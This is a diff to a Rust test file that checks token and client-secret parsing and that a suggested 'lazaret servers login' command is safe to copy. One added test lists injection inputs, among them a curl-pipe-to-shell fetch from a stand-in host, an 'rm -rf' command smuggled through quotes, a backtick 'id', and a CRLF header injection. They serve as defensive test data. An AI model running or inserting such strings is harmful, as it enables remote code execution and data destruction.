@@ -2,6 +2,8 @@
 
 use super::*;
 
+const RANDOM: &str = "7Fjfp0ZBr1KtDRbnfVdmIw";
+
 fn url(text: &str) -> Url {
     Url::parse(text).unwrap()
 }
@@ -123,14 +125,14 @@ fn a_token_is_for_the_server_that_is_asked() {
     ] {
         let document = json!({"resource": resource, "authorization_servers": ["https://id.test"]});
         assert_eq!(
-            Resource::read(&document, &server).is_ok(),
+            Resource::read(&document, &server, &Terms::default()).is_ok(),
             is_good,
             "{resource}"
         );
     }
     let plain =
         json!({"resource": "https://mail.test", "authorization_servers": ["http://id.test"]});
-    assert!(Resource::read(&plain, &server).is_err());
+    assert!(Resource::read(&plain, &server, &Terms::default()).is_err());
 }
 
 #[test]
@@ -253,7 +255,7 @@ fn who_asks_is_shown_as_the_issuer_wants_it() {
         Client::read(&answer, &issuer).map(|client| (client.way, client.secret.is_some()))
     };
     let all = [Showing::ClientSecretBasic, Showing::None];
-    let with = json!({"client_id": "a", "client_secret": "s"});
+    let with = json!({"client_id": "a", "client_secret": RANDOM});
     assert_eq!(
         registered(with.clone(), &all).unwrap(),
         (Showing::ClientSecretBasic, true)
@@ -272,11 +274,55 @@ fn who_asks_is_shown_as_the_issuer_wants_it() {
 #[test]
 fn a_token_is_a_bearers() {
     let token = |kind: &str| {
-        Token::read(&json!({"access_token": "t", "token_type": kind, "expires_in": 60}))
+        Token::read(&json!({"access_token": RANDOM, "token_type": kind, "expires_in": 60}))
     };
     assert_eq!(token("bearer").unwrap().good_ms, Some(60_000));
     assert!(token("DPoP").is_err());
     assert!(Token::read(&json!({"token_type": "Bearer"})).is_err());
+}
+
+/// Whatever is a secret is kept out of all that leaves, so an issuer may not choose an ordinary text.
+#[test]
+fn an_issuer_does_not_choose_what_is_no_longer_said() {
+    let token = |access: &str, refresh: &str| {
+        Token::read(
+            &json!({"access_token": access, "refresh_token": refresh, "token_type": "Bearer"}),
+        )
+    };
+    assert!(token(RANDOM, RANDOM).is_ok());
+    for word in ["api.anthropic.com", "text/event-stream", "id"] {
+        assert!(token(word, RANDOM).is_err(), "{word}");
+        assert!(token(RANDOM, word).is_err(), "{word}");
+        let client = json!({"client_id": "a", "client_secret": word});
+        assert!(Client::read(&client, &issuer()).is_err(), "{word}");
+    }
+    assert!(token(&format!("{RANDOM}\r\nx: y"), RANDOM).is_err());
+}
+
+/// What a server wants stands in a command that a person copies only where a shell reads nothing in it.
+#[test]
+fn advice_is_safe_to_copy() {
+    assert_eq!(
+        advice("wiki", "pages:write https://a.test/x_y.z-1"),
+        "lazaret servers login wiki --scope 'pages:write https://a.test/x_y.z-1'"
+    );
+    let long = "a".repeat(201);
+    for scope in [
+        "$(curl -s evil.test/x|sh)",
+        "a'; rm -rf x; '",
+        "`id`",
+        "a\\nb",
+        "a&b",
+        "--help",
+        "",
+        &long,
+    ] {
+        assert_eq!(
+            advice("wiki", scope),
+            "lazaret servers login wiki",
+            "{scope}"
+        );
+    }
 }
 
 #[test]
